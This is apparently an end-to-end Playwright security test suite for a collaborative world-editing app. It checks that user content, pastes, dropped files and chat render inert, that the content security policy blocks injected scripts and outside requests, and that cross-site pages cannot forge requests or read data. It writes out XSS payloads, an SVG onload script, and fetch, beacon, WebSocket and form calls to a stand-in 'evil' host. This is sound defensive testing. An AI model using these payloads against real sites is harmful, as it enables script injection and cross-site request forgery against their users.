// Attacks at a browser, on a node with accounts: strangers' text is shown as text, and runs nowhere; other
// sites get nothing of a node through the browser of a signed-in person.
import { expect, type Page } from '@playwright/test'
import { zipSync } from 'fflate'
import * as Y from 'yjs'
import { SCENE_TYPE, WorldList, WorldSummary } from '../../../shared/wire/api/world-bodies.ts'
import { parseArtifactId } from '../../../shared/world/address.ts'
import { artifactMaps, initScene } from '../../../shared/world/scene/scene.ts'
import { serveAccounts, told, type AccountsNode, type Somebody } from '../../accounts.ts'
import { atBrowser, letIn } from '../account-person.ts'
import { startEvil, setTrap, type EvilServer } from './attack-trap.ts'
import { FILE_NAMES, FRONT_MATTER, LINKS, PICTURES, SCRIPTS, withServer } from './attack-words.ts'
import { test } from '../person.ts'
import { walkIn } from '../there.ts'

let node: AccountsNode
let evil: EvilServer
let mallory: Somebody

test.beforeAll(async () => {
  node = await serveAccounts()
  evil = await startEvil()
  mallory = await node.signUp('mallory', { name: SCRIPTS[1]?.slice(0, 30) ?? '' })
})

test.afterAll(async () => {
  await evil[Symbol.asyncDispose]()
  await node[Symbol.asyncDispose]()
})

const id = (word: string) => {
  const parsed = parseArtifactId(word)
  if (parsed === null) throw new Error(`${word} is no id`)
  return parsed
}

/** A world in which every text is an attack, written past every form of the client. */
function evilScene(title: string, page: string): Uint8Array {
  const scene = new Y.Doc()
  initScene(scene, { root: id('root'), title, name: title, text: page })
  scene.transact(() => {
    for (const [at, words] of [...SCRIPTS, ...FRONT_MATTER].entries()) {
      const text = withServer(words, evil.host)
      const place = { host: 'root', x: (at % 8) * 100, y: Math.floor(at / 8) * 90, facing: 'down' }
      const fields: [string, unknown][] = [
        ['name', text],
        ['place', place],
        ['text', new Y.Text(`${text}\n\n\`\`\`js\nlog(${JSON.stringify(text)})\n\`\`\`\n`)],
        ['look', new Y.Map(Object.entries({ sprite: text, width: 64, height: 64, title: text }))],
        ['colors', new Y.Map(Object.entries({ paper: text, ink: text, title: text }))],
        ['portal', text],
        // The node refuses a key that reaches a prototype.
        [text.slice(0, 30).replace(/^(?:__proto__|constructor)$/, 'prototype'), text],
      ]
      artifactMaps(scene).set(`evil${at}`, new Y.Map(fields))
    }
  })
  return Y.encodeStateAsUpdate(scene)
}

/** Makes such a world, as mallory. */
async function makeWorld(title: string, page: string): Promise<string> {
  const answer = await fetch(`${node.url}/api/worlds/import`, {
    method: 'POST',
    headers: { 'content-type': SCENE_TYPE, cookie: mallory.cookie },
    body: new Uint8Array(evilScene(title, page)),
  })
  return WorldSummary.parse(await told(answer)).address
}

/** Everything on the screen that leads somewhere or is fetched from somewhere. */
const leads = (page: Page): Promise<string[]> =>
  page.evaluate(() =>
    [
      ...document.querySelectorAll('[href], [src], [action], [formaction], [srcset], [poster], [data]'),
    ].flatMap((element) =>
      ['href', 'src', 'action', 'formaction', 'srcset', 'poster', 'data'].flatMap(
        (name) => element.getAttribute(name) ?? [],
      ),
    ),
  )

/** Elements that nothing of ours ever makes, and attributes that only an attack has. */
const strange = (page: Page): Promise<string[]> =>
  page.evaluate(() => [
    ...[...document.querySelectorAll('iframe, object, embed, base, math, video, audio, form[action]')].map(
      ({ outerHTML }) => outerHTML,
    ),
    ...[...document.querySelectorAll('body *')]
      .filter(({ attributes }) => [...attributes].some(({ name }) => name.startsWith('on')))
      .map(({ outerHTML }) => outerHTML.slice(0, 100)),
  ])

async function isHarmless(page: Page, where: string): Promise<void> {
  for (const address of await leads(page)) {
    expect(address, where).not.toMatch(/^\s*(?:javascript|vbscript|data:text|blob:null|file|about):?/i)
    expect(address, where).not.toContain(evil.host)
  }
  expect(await strange(page), where).toEqual([])
}

test('what strangers write is shown as it is written, on every screen, and runs nowhere @hard', async ({
  browser,
}) => {
  test.slow()
  const lines = [...SCRIPTS, ...LINKS, ...PICTURES].map((words) => withServer(words, evil.host))
  const tries = SCRIPTS.length * 8 + FRONT_MATTER.length * 8 + lines.length + LINKS.length
  const world = await makeWorld(SCRIPTS[0] ?? '', `# ${lines.join('\n\n')}\n`)
  await letIn(mallory, world, 'ada', 'own')

  // Labels, knocks, and a browser's own name.
  for (const words of SCRIPTS.slice(0, 5)) {
    const label = words.slice(0, 60)
    await mallory.ask('POST', `/api/worlds/${world}/sharing/links`, { right: 'see', label, until: null })
  }
  await told(await mallory.ask('POST', '/api/worlds/ada/home/knock', { words: SCRIPTS[1] }))
  await fetch(`${node.url}/api/session`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      'user-agent': '<script>got()</script><img src=x onerror=got()>',
    },
    body: JSON.stringify({ account: 'ada', password: node.admin.password }),
  })

  const ada = await atBrowser(browser, node.url, node.admin)
  const trap = await setTrap(ada.context, node.url)
  const { page } = ada
  for (const path of [
    '/',
    '/#bin',
    '/account',
    '/admin',
    '/reference',
    `/copies/${encodeURIComponent('<img src=x onerror=got()>')}`,
  ]) {
    await page.goto(path)
    await expect(page.locator('body')).not.toBeEmpty()
    await page.waitForLoadState('networkidle')
    await isHarmless(page, path)
  }
  await page.goto('/')
  await expect(page.getByText(SCRIPTS[0] ?? '').first()).toBeVisible()

  await ada.enter(world)
  await expect(ada.text).toContainText('<script>got()</script>')
  await isHarmless(page, 'the world')
  // Every line of the page, as somebody reads down to it.
  for (const words of LINKS) {
    const shown = page
      .locator('.cm-line')
      .filter({ hasText: words.slice(1, 2) === ']' ? words : (words.split(']')[0]?.slice(1) ?? words) })
    // The editor draws its lines anew as one scrolls.
    await expect(async () => {
      if ((await shown.count()) > 0) await shown.first().scrollIntoViewIfNeeded({ timeout: 1_000 })
    }).toPass()
  }
  await isHarmless(page, 'the world, further down')
  for (const panel of ['Outline', 'Share', 'People', 'History', 'Inspector']) {
    const button = page.getByRole('button', { name: new RegExp(`^${panel}`) }).first()
    if (!(await button.isVisible())) continue
    await button.click()
    await isHarmless(page, panel)
    await page.keyboard.press('Escape')
  }
  // Each thing, gone into: its name, page, colours and look.
  for (const at of [0, 1, 3, 11, 18, 20, SCRIPTS.length + 1, SCRIPTS.length + 3, SCRIPTS.length + 4]) {
    await page.goto(`/w/${world}#evil${at}`)
    await page.waitForLoadState('networkidle')
    await isHarmless(page, `thing ${at}`)
  }
  expect(trap.sprung).toEqual([])
  expect(evil.asked).toEqual([])
  console.log(`script, links, pictures, front matter: ${tries} tries, 0 ran, 0 asked elsewhere`)
})

test('links of a page that lead astray lead nowhere, also when they are followed @hard', async ({
  browser,
}) => {
  const lines = LINKS.map((words) => withServer(words, evil.host))
  const world = await makeWorld('Links', `${lines.join('\n\n')}\n`)
  await letIn(mallory, world, 'ada', 'edit')
  const ada = await atBrowser(browser, node.url, node.admin)
  const trap = await setTrap(ada.context, node.url)
  await ada.enter(world)
  const { page } = ada
  const before = page.url()
  // First its editor is here.
  await expect(page.locator('.cm-line').first()).toBeVisible()
  let followed = 0
  for (const line of await page.locator('.cm-line').all()) {
    for (const part of await line.locator('span, a').all()) {
      if (!(await part.isVisible())) continue
      await part.click({ modifiers: ['ControlOrMeta'], force: true })
      followed += 1
      if (page.url() !== before) {
        expect(new URL(page.url()).origin).toBe(new URL(node.url).origin)
        expect(new URL(page.url()).pathname).toMatch(/^\/w\//)
        await ada.enter(world)
      }
    }
  }
  expect(followed).toBeGreaterThan(LINKS.length / 2)
  expect(trap.sprung).toEqual([])
  expect(evil.asked).toEqual([])
  console.log(`links followed: ${followed}, 0 led astray`)
})

test('what is pasted or dropped is text @hard', async ({ browser }) => {
  const ada = await atBrowser(browser, node.url, node.admin)
  const trap = await setTrap(ada.context, node.url)
  const world = await makeWorld('Paste', 'Here.\n')
  await letIn(mallory, world, 'ada', 'edit')
  await ada.enter(world)
  const { page } = ada
  const paste = (target: string, types: Readonly<Record<string, string>>) =>
    page.evaluate(
      ([target, types]) => {
        const data = new DataTransfer()
        for (const [type, words] of Object.entries(types)) data.setData(type, words)
        const event = new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true })
        document.querySelector(target)?.dispatchEvent(event)
      },
      [target, types] as const,
    )
  const all = [...SCRIPTS, ...LINKS, ...PICTURES].map((words) => withServer(words, evil.host))
  await ada.text.click()
  for (const words of all) {
    // As HTML it becomes Markdown, and as text it stays what it is.
    await paste('.cm-content', { 'text/html': words, 'text/plain': words })
    await paste('.cm-content', { 'text/plain': words })
  }
  await expect(ada.text).toContainText('<script>got()</script>')
  for (const words of [...SCRIPTS, ...FRONT_MATTER].map((words) => withServer(words, evil.host))) {
    const json = JSON.stringify({
      inkland: 1,
      things: [{ name: words, text: words, look: { sprite: words } }],
    })
    await paste('main', {
      'text/html': words,
      'text/plain': words,
      'application/json': json,
      'web application/x-inkland': json,
    })
  }
  await isHarmless(page, 'pasted')

  // Files, and a zip of them, dropped on home.
  await page.goto('/')
  await expect(page.locator('.home')).toBeVisible()
  const files = FILE_NAMES.map((name, at) => ({
    name,
    text: withServer(FRONT_MATTER[at % FRONT_MATTER.length] ?? '', evil.host),
  }))
  const zipped = zipSync(
    Object.fromEntries(files.map(({ name, text }) => [name, new TextEncoder().encode(text)])),
  )
  const drops = [
    ...files.map(({ name, text }) => ({
      name: name.replaceAll('/', '_'),
      bytes: [...new TextEncoder().encode(text)],
    })),
    { name: '<img src=x onerror=got()>.zip', bytes: [...zipped] },
    {
      name: 'x.svg',
      bytes: [
        ...new TextEncoder().encode(
          `<svg xmlns="http://www.w3.org/2000/svg" onload="got()"><script>got()</script></svg>`,
        ),
      ],
    },
  ]
  for (const { name, bytes } of drops) {
    await page.evaluate(
      ([name, bytes]) => {
        const data = new DataTransfer()
        data.items.add(new File([Uint8Array.from(bytes)], name))
        for (const type of ['dragenter', 'dragover', 'drop']) {
          const event = new DragEvent(type, {
            dataTransfer: data,
            bubbles: true,
            cancelable: true,
            clientX: 640,
            clientY: 400,
          })
          document.querySelector('.home')?.dispatchEvent(event)
        }
      },
      [name, bytes] as const,
    )
    await page.waitForLoadState('networkidle')
    await isHarmless(page, name)
    await page.keyboard.press('Escape')
  }
  expect(await page.evaluate(() => 'polluted' in {})).toBe(false)
  expect(trap.sprung).toEqual([])
  expect(evil.asked).toEqual([])
  console.log(
    `pasted and dropped: ${all.length + SCRIPTS.length + FRONT_MATTER.length + drops.length} tries, 0 ran`,
  )
})

test('what is said aloud, and who says it, is text @hard', async ({ browser }) => {
  const world = await makeWorld('Talk', 'Here.\n')
  await letIn(mallory, world, 'ada', 'act')
  const [ada, other] = [
    await atBrowser(browser, node.url, node.admin),
    await atBrowser(browser, node.url, mallory),
  ]
  const trap = await setTrap(ada.context, node.url)
  await ada.enter(world)
  await walkIn(other, world)
  const said = [1, 2, 3, 13, 19].map((at) => `spoken ${withServer(SCRIPTS[at] ?? '', evil.host)}`)
  for (const words of said) {
    const line = other.page.getByLabel('Say something')
    await line.fill(words)
    await line.press('Enter')
    await expect(line).toHaveValue('')
  }
  await expect(ada.page.getByText(said[0] ?? '').first()).toBeAttached()
  await isHarmless(ada.page, 'what was said')
  expect(trap.sprung).toEqual([])
  expect(evil.asked).toEqual([])
})

test.describe('markup that got in all the same', () => {
  test.use({ triesWhatIsNotAllowed: true })
  /** The parts of the policy that stop it. */
  const STOPPED = [
    'require-trusted-types-for',
    'style-src-elem',
    'style-src-attr',
    'img-src',
    'connect-src',
    'base-uri',
    'frame-src',
    'media-src',
  ]

  test('runs no script, shows no style, makes no markup of strings and asks no one else', async ({
    browser,
  }) => {
    const ada = await atBrowser(browser, node.url, node.admin)
    const trap = await setTrap(ada.context, node.url)
    const { page } = ada
    for (const path of ['/', '/w/inkland/welcome', '/account']) {
      await page.goto(path)
      await expect(page.locator('#app')).not.toBeEmpty()
      const stopped = await page.evaluate(
        async ([evil, wanted]) => {
          const said: string[] = []
          addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
            said.push(effectiveDirective),
          )
          const tried: string[] = []
          const attempt = (name: string, act: () => void): void => {
            try {
              act()
            } catch {
              tried.push(name)
            }
          }
          const add = (tag: string, set: (element: HTMLElement) => void): void => {
            const element = document.createElement(tag)
            set(element)
            document.body.append(element)
          }
          // Through Trusted Types.
          attempt(
            'innerHTML',
            () =>
              (document.body.appendChild(document.createElement('div')).innerHTML =
                '<img src=x onerror=got()>'),
          )
          attempt('script text', () => add('script', (element) => (element.textContent = 'got()')))
          attempt('script src', () =>
            add('script', (element) => ((element as HTMLScriptElement).src = `http://${evil}/script.js`)),
          )
          // Which a script that a test evaluates may do by itself, but not what it leaves behind.
          // oxlint-disable-next-line typescript/no-implied-eval
          attempt('timer', () => setTimeout('got()', 0))
          attempt('worker', () => new Worker(`http://${evil}/worker.js`))
          attempt('blob worker', () => new Worker(URL.createObjectURL(new Blob(['got()']))))
          attempt('srcdoc', () =>
            add(
              'iframe',
              (element) => ((element as HTMLIFrameElement).srcdoc = '<script>parent.got()</script>'),
            ),
          )
          attempt('parse', () =>
            document.body.append(
              ...new DOMParser().parseFromString('<img src=x onerror=got()>', 'text/html').body.childNodes,
            ),
          )
          attempt('fragment', () => document.createRange().createContextualFragment('<script>got()</script>'))
          attempt('write', () => document.write('<script>got()</script>'))
          // Past them: attempts that the policy itself stops.
          add('style', (element) => element.append('body { --injected: 1 }'))
          add('div', (element) => element.setAttribute('style', '--injected: 1'))
          add('link', (element) =>
            Object.assign(element, { rel: 'stylesheet', href: `http://${evil}/style.css` }),
          )
          add('img', (element) => Object.assign(element, { src: `http://${evil}/image.png` }))
          add('iframe', (element) => Object.assign(element, { src: `http://${evil}/frame` }))
          attempt('object', () =>
            add('object', (element) => Object.assign(element, { data: `http://${evil}/object` })),
          )
          add('base', (element) => Object.assign(element, { href: `http://${evil}/` }))
          add('video', (element) => Object.assign(element, { src: `http://${evil}/video` }))
          await fetch(`http://${evil}/fetch`, { mode: 'no-cors' }).catch(() => tried.push('fetch'))
          attempt('socket', () => new WebSocket(`ws://${evil}/socket`))
          navigator.sendBeacon(`http://${evil}/beacon`)
          add('form', (element) => {
            Object.assign(element, { action: `http://${evil}/form`, method: 'post' })
            ;(element as HTMLFormElement).submit()
          })
          // Reports come one after the other; what is missing in the end is told below.
          for (let looks = 0; looks < 500 && !wanted.every((one) => said.includes(one)); looks += 1)
            await new Promise((resolve) => setTimeout(resolve, 20))
          const styled = getComputedStyle(document.body).getPropertyValue('--injected')
          const inline = [...document.querySelectorAll('div')].some(
            (div) => getComputedStyle(div).getPropertyValue('--injected') !== '',
          )
          return { said: [...new Set(said)], tried, styled, inline }
        },
        [evil.host, STOPPED] as const,
      )
      expect(stopped.tried, path).toEqual(
        expect.arrayContaining([
          'innerHTML',
          'script text',
          'script src',
          'timer',
          'worker',
          'blob worker',
          'srcdoc',
          'parse',
          'fragment',
          'write',
          'object',
          'fetch',
        ]),
      )
      expect(stopped.said, path).toEqual(expect.arrayContaining(STOPPED))
      expect([stopped.styled, stopped.inline], path).toEqual(['', false])
    }
    expect(evil.asked).toEqual([])
    expect(trap.sprung.filter((what) => !what.startsWith('asked '))).toEqual([])
  })
})

test.describe('another site', () => {
  // It frames us, or tries to.
  test.use({ triesWhatIsNotAllowed: true })

  // Another site altogether, and the same one on another port, to which cookies go along.
  for (const site of ['localhost', '127.0.0.1']) {
    test(`at ${site} gets nothing and changes nothing through the browser of who is signed in @hard`, async ({
      browser,
    }) => {
      test.setTimeout(240_000)
      const ada = await atBrowser(browser, node.url, node.admin)
      const secret = await worldNamed(`Diary, ${site}`)
      const before = await state()
      const { host, port } = new URL(node.url)
      const page = ada.page
      const other = await startEvilAt(site)
      await page.goto(other.url)
      const got = await page.evaluate(
        async ([origin, sockets, secret]) => {
          const reached: string[] = []
          let tries = 0
          const attempt = async (name: string, act: () => Promise<boolean>): Promise<void> => {
            tries += 1
            // A frame for a download never fires.
            const bound = new Promise<boolean>((resolve) => setTimeout(() => resolve(false), 3_000))
            if (await Promise.race([act().catch(() => false), bound])) reached.push(name)
          }
          const bodies = [
            ['text/plain', '{"title":"forged"}'],
            ['application/x-www-form-urlencoded', 'title=forged'],
            ['multipart/form-data', 'title=forged'],
            ['application/json', '{"title":"forged"}'],
            ['application/octet-stream', 'x'],
          ]
          const paths = [
            '/api/worlds',
            '/api/me',
            '/api/session',
            '/api/sessions',
            '/api/account/password',
            '/api/invitations',
            '/api/worlds/import',
            `/api/worlds/${secret}`,
            `/api/worlds/${secret}/sharing`,
          ]
          const send = (path: string, method: string, type: string, body: string) =>
            attempt(`${method} ${path} ${type}`, async () => {
              const headers = { 'content-type': type }
              const answer = await fetch(origin + path, { method, credentials: 'include', headers, body })
              return answer.ok
            })
          const sendBlind = (path: string, type: string, body: string) =>
            attempt(`blind ${path} ${type}`, async () => {
              const headers = { 'content-type': type }
              await fetch(origin + path, {
                method: 'POST',
                mode: 'no-cors',
                credentials: 'include',
                headers,
                body,
              })
              // Nobody sees the answer: its effect is checked below.
              return false
            })
          for (const path of paths) {
            await attempt(`read ${path}`, async () => {
              const answer = await fetch(origin + path, { credentials: 'include' })
              return (await answer.text()).length > 0
            })
            for (const [type = '', body = ''] of bodies) {
              const methods = ['POST', 'PUT', 'PATCH', 'DELETE']
              await Promise.all(methods.map((method) => send(path, method, type, body)))
              await sendBlind(path, type, body)
            }
          }
          for (const path of [
            `/sync/${secret}`,
            `/sync/${secret}/live`,
            '/sync/inkland/welcome',
            '/sync/mallory/forged',
          ]) {
            await attempt(
              `socket ${path}`,
              () =>
                new Promise((resolve) => {
                  const socket = new WebSocket(sockets + path)
                  socket.addEventListener('open', () => resolve(true))
                  socket.addEventListener('error', () => resolve(false))
                }),
            )
          }
          // A refused frame shows the browser's own page, which nobody can look into either.
          const isOpen = (frame: HTMLIFrameElement): boolean => {
            try {
              return frame.contentDocument !== null
            } catch {
              return false
            }
          }
          // As parts of the page: scripts, styles, pictures and frames of ours.
          const part = (tag: string, attribute: string, path: string) =>
            attempt(
              `${tag} ${path}`,
              () =>
                new Promise((resolve) => {
                  const element = document.createElement(tag)
                  element.addEventListener('load', () => {
                    resolve(tag !== 'iframe' || isOpen(element as HTMLIFrameElement))
                  })
                  element.addEventListener('error', () => resolve(false))
                  element.setAttribute(attribute, origin + path)
                  if (tag === 'link') element.setAttribute('rel', 'stylesheet')
                  document.body.append(element)
                }),
            )
          for (const path of ['/', '/api/me', `/api/worlds/${secret}/scene`, `/w/${secret}`]) {
            await part('script', 'src', path)
            await part('img', 'src', path)
            await part('link', 'href', path)
            await part('iframe', 'src', path)
          }
          // A window of ours that another site opened.
          await attempt('window', async () => {
            const opened = open(`${origin}/w/${secret}`)
            await new Promise((resolve) => setTimeout(resolve, 1500))
            try {
              return opened !== null && !opened.closed && opened.document.body.innerHTML !== ''
            } catch {
              return false
            } finally {
              opened?.close()
            }
          })
          return { reached, tries }
        },
        [node.url, node.url.replace('http', 'ws'), secret] as const,
      )
      expect(got.reached, site).toEqual([])

      // A form navigates, with the cookie where the browser lets it go along.
      const forms = ['/api/worlds', '/api/session', '/api/worlds/import']
      for (const path of forms) {
        for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
          await page.goto(other.url)
          await Promise.all([
            page.waitForURL((url) => url.host === host),
            page.evaluate(
              ([action, enctype]) => {
                const form = document.body.appendChild(document.createElement('form'))
                Object.assign(form, { action, enctype, method: 'post' })
                const field = form.appendChild(document.createElement('input'))
                Object.assign(field, { name: '{"title":"forged","x":"', value: '"}' })
                form.submit()
              },
              [node.url + path, type] as const,
            ),
          ])
        }
      }
      expect(await state(), site).toEqual(before)
      console.log(
        `from ${site === 'localhost' ? 'another site' : 'another port'}: ${got.tries + forms.length * 3} tries, 0 reached anything (node at port ${port})`,
      )
      await other[Symbol.asyncDispose]()
    })
  }

  const startEvilAt = (site: string) =>
    startEvil({ '/': '<!doctype html><title>Evil</title><body>Evil.' }, site)

  const worldNamed = async (title: string) =>
    WorldSummary.parse(await told(await node.admin.ask('POST', '/api/worlds', { title }))).address

  /** State that an attack could have changed. */
  const state = async () => ({
    worlds: WorldList.parse(await told(await node.admin.ask('GET', '/api/worlds'))).worlds.map(
      ({ address, title }) => [address, title],
    ),
    sessions: (
      (await told(await node.admin.ask('GET', '/api/sessions'))) as { sessions: { id: string }[] }
    ).sessions.map(({ id }) => id),
    invitations: await told(await node.admin.ask('GET', '/api/invitations')),
    me: await told(await node.admin.ask('GET', '/api/me')),
  })
})
